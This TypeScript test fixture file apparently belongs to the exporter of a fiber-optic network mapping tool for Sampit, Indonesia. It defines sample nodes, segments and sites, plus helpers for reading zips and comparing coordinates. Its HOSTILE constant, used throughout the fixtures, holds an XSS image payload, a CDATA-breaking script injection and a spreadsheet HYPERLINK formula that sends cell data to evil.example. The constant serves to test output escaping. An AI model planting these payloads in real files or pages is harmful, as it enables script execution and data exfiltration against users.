import { NETWORK_STATUSES } from '@serat/vocabulary';
import yauzl from 'yauzl';
import type { ExportNode, ExportSegment, ExportSite } from './export-types';

/** Text that has broken exporters before: markup, CDATA ends, formulas, quotes, Indonesian. */
export const HOSTILE = {
  img: '<img src=x onerror=alert(1)>',
  cdata: ']]></name><script>alert(1)</script>',
  formula: '=HYPERLINK("http://evil.example/?q="&A1,"Klik")',
  quotes: 'Tiang "PLN", jalur\nbaris 2',
  indonesian: 'Kantor Desa Sungai Raya — Kecamatan Mentawa Baru Ketapang, Kotawaringin Timur (Sampit) ½ é ü 中文 😀',
};

export const NODES: ExportNode[] = [
  {
    id: 'n-1',
    code: 'NOC-SPT',
    name: 'NOC Diskominfo Sampit',
    kind: 'noc',
    status: 'active',
    owner: 'pemda',
    kecamatanCode: '62.02.01',
    desaCode: null,
    lon: 112.9493261,
    lat: -2.5384013,
  },
  {
    id: 'n-2',
    code: 'ODC-MB-01',
    name: HOSTILE.img,
    kind: 'odc',
    status: 'installed',
    owner: 'pemda',
    kecamatanCode: '62.02.01',
    desaCode: '62.02.01.2001',
    lon: 112.9612345,
    lat: -2.5299876,
  },
  { id: 'n-3', code: 'ODP-MB-07', name: HOSTILE.cdata, kind: 'odp', status: 'planned', owner: null, kecamatanCode: '62.02.01', desaCode: '62.02.01.2003', lon: 112.97, lat: -2.51 },
  { id: 'n-4', code: 'TP-0001', name: null, kind: 'pole', status: 'damaged', owner: 'pln', kecamatanCode: null, desaCode: null, lon: 112.9650001, lat: -2.5200002 },
  {
    id: 'n-5',
    code: 'JC-12',
    name: HOSTILE.indonesian,
    kind: 'joint_closure',
    status: 'in_construction',
    owner: 'telkom',
    kecamatanCode: '62.02.02',
    desaCode: null,
    lon: 113.0000001,
    lat: -2.4999999,
  },
  { id: 'n-6', code: '-HH-3', name: HOSTILE.formula, kind: 'handhole', status: 'decommissioned', owner: 'other', kecamatanCode: null, desaCode: null, lon: 112.9, lat: 0.0000001 },
];

export const SEGMENTS: ExportSegment[] = [
  {
    id: 's-1',
    code: 'BB-001',
    fromNodeId: 'n-1',
    toNodeId: 'n-2',
    fromNodeCode: 'NOC-SPT',
    toNodeCode: 'ODC-MB-01',
    status: 'active',
    placement: 'aerial',
    tier: 'backbone',
    cableType: 'ADSS 48C',
    coreCount: 48,
    lengthM: 1523.456,
    phaseName: 'Tahap 1',
    coordinates: [
      [112.9493261, -2.5384013],
      [112.9550123, -2.5350456],
      [112.9612345, -2.5299876],
    ],
  },
  {
    id: 's-2',
    code: 'DS-014',
    fromNodeId: 'n-2',
    toNodeId: 'n-3',
    fromNodeCode: 'ODC-MB-01',
    toNodeCode: 'ODP-MB-07',
    status: 'in_construction',
    placement: 'duct',
    tier: 'distribution',
    cableType: null,
    coreCount: null,
    lengthM: 2450,
    phaseName: 'Tahap 10',
    coordinates: [
      [112.9612345, -2.5299876],
      [112.97, -2.51],
    ],
  },
  {
    id: 's-3',
    code: 'DS-015',
    fromNodeId: 'n-2',
    toNodeId: 'n-4',
    fromNodeCode: 'ODC-MB-01',
    toNodeCode: 'TP-0001',
    status: 'planned',
    placement: 'underground',
    tier: 'distribution',
    cableType: HOSTILE.cdata,
    coreCount: 12,
    lengthM: 812.5,
    phaseName: 'Tahap 2',
    coordinates: [
      [112.9612345, -2.5299876],
      [112.963, -2.525],
      [112.9650001, -2.5200002],
    ],
  },
  {
    id: 's-4',
    code: 'DR-100',
    fromNodeId: 'n-4',
    toNodeId: 'n-5',
    fromNodeCode: 'TP-0001',
    toNodeCode: 'JC-12',
    status: 'damaged',
    placement: 'river_crossing',
    tier: 'drop',
    cableType: HOSTILE.formula,
    coreCount: 2,
    lengthM: 40.25,
    phaseName: null,
    coordinates: [
      [112.9650001, -2.5200002],
      [113.0000001, -2.4999999],
    ],
  },
  {
    id: 's-5',
    code: 'DR-101',
    fromNodeId: 'n-5',
    toNodeId: 'n-6',
    fromNodeCode: 'JC-12',
    toNodeCode: '-HH-3',
    status: 'active',
    placement: 'aerial',
    tier: 'drop',
    cableType: HOSTILE.indonesian,
    coreCount: 4,
    lengthM: 3.5,
    phaseName: 'Tahap 1',
    coordinates: [
      [113.0000001, -2.4999999],
      [112.9, 0.0000001],
    ],
  },
  {
    id: 's-6',
    code: 'DR-102',
    fromNodeId: 'n-1',
    toNodeId: 'n-6',
    fromNodeCode: 'NOC-SPT',
    toNodeCode: '-HH-3',
    status: 'surveyed',
    placement: 'aerial',
    tier: 'drop',
    cableType: HOSTILE.quotes,
    coreCount: 2,
    lengthM: 10,
    phaseName: 'Tahap 1',
    coordinates: [
      [112.9493261, -2.5384013],
      [112.9, 0.0000001],
    ],
  },
];

export const SITES: ExportSite[] = [
  {
    id: 'st-1',
    code: 'SOPD-001',
    name: 'Dinas Komunikasi, Informatika, Statistik dan Persandian',
    shortName: 'Diskominfo',
    kind: 'sopd',
    kecamatanCode: '62.02.01',
    desaCode: null,
    phaseName: 'Tahap 1',
    costIdrPerMonth: 1500000,
    connected: true,
    lon: 112.9493,
    lat: -2.5384,
  },
  {
    id: 'st-2',
    code: 'KDS-014',
    name: HOSTILE.indonesian,
    shortName: null,
    kind: 'kantor_desa',
    kecamatanCode: '62.02.02',
    desaCode: '62.02.02.2004',
    phaseName: null,
    costIdrPerMonth: null,
    connected: false,
    lon: 113.01,
    lat: -2.49,
  },
  {
    id: 'st-3',
    code: 'PKM-003',
    name: HOSTILE.formula,
    shortName: '@puskesmas',
    kind: 'puskesmas',
    kecamatanCode: null,
    desaCode: null,
    phaseName: 'Tahap 2',
    costIdrPerMonth: 750000.5,
    connected: true,
    lon: 112.95,
    lat: -2.53,
  },
];

/** A layer of `count` segments of `vertices` positions each, around Sampit. */
export function manySegments(count: number, vertices = 8): ExportSegment[] {
  const statuses = NETWORK_STATUSES;
  const segments: ExportSegment[] = new Array(count);
  for (let i = 0; i < count; i++) {
    const lon = 112.5 + (i % 1000) * 0.001;
    const lat = -2.9 + Math.floor(i / 1000) * 0.001;
    const coordinates: [number, number][] = [];
    for (let v = 0; v < vertices; v++) coordinates.push([lon + v * 0.0001234567, lat + v * 0.0000987654]);
    segments[i] = {
      id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
      code: `SEG-${i}`,
      fromNodeId: `n-${i}`,
      toNodeId: `n-${i + 1}`,
      fromNodeCode: `ND-${i}`,
      toNodeCode: `ND-${i + 1}`,
      status: statuses[i % statuses.length],
      placement: i % 3 === 0 ? 'aerial' : 'underground',
      tier: i % 2 === 0 ? 'distribution' : 'drop',
      cableType: i % 5 === 0 ? null : 'ADSS 24C',
      coreCount: i % 5 === 0 ? null : 24,
      lengthM: 100 + (i % 997) * 1.25,
      phaseName: `Tahap ${(i % 4) + 1}`,
      coordinates,
    };
  }
  return segments;
}

/** Every entry of a zip, by name. */
export function readZip(bytes: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error ?? new Error('no zip'));
      const entries = new Map<string, Buffer>();
      zip.on('error', reject);
      zip.on('end', () => resolve(entries));
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (streamError, stream) => {
          if (streamError || !stream) return reject(streamError ?? new Error('no stream'));
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('error', reject);
          stream.on('end', () => {
            entries.set(entry.fileName, Buffer.concat(chunks));
            zip.readEntry();
          });
        });
      });
      zip.readEntry();
    });
  });
}

/** Expect two position lists to agree to 1e-7 degrees (about 1 cm). */
export function expectSamePositions(actual: unknown, expected: readonly (readonly number[])[]): void {
  const positions = actual as number[][];
  expect(positions).toHaveLength(expected.length);
  positions.forEach((position, i) => {
    expect(Math.abs(position[0] - expected[i][0])).toBeLessThan(1e-7);
    expect(Math.abs(position[1] - expected[i][1])).toBeLessThan(1e-7);
  });
}
